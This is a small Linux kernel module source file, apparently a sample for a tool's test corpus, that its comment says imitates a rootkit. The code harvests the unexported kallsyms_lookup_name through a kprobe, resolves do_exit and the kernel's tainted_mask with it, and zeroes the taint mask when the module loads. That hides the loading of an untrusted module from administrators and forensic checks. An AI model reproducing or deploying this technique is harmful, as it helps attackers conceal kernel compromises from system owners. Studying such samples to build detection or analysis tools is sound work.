// SPDX-License-Identifier: GPL-2.0
/*
 * kln_field_store.c - written for probe-migrator's corpus in the style of a
 * rootkit that caches every resolved symbol in one structure: the harvested
 * lookup function is stored in a field whose typedef comes from a local
 * header, and later calls go through that field.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include "kvx_syms.h"

struct kvx_syms *kvx_get_syms(void)
{
	static struct kvx_syms syms;

	if (!syms.kln) {
		static struct kprobe kvx_kp;

		kvx_kp.symbol_name = "kallsyms_lookup_name";
		if (register_kprobe(&kvx_kp))
			return NULL;
		syms.kln = (kvx_kallsyms_fn)kvx_kp.addr;
		unregister_kprobe(&kvx_kp);

		syms.do_exit_fn = (kvx_exit_fn)syms.kln("do_exit");
		syms.taint_mask = (unsigned long *)syms.kln("tainted_mask");
	}
	return &syms;
}

static int kvx_untaint(void)
{
	struct kvx_syms *s = kvx_get_syms();
	unsigned long *mask;

	if (!s)
		return -ENOENT;
	mask = (unsigned long *)s->kln("tainted_mask");
	if (mask)
		*mask = 0;
	return 0;
}

static int __init kvx_init(void)
{
	return kvx_untaint();
}

module_init(kvx_init);
MODULE_LICENSE("GPL");
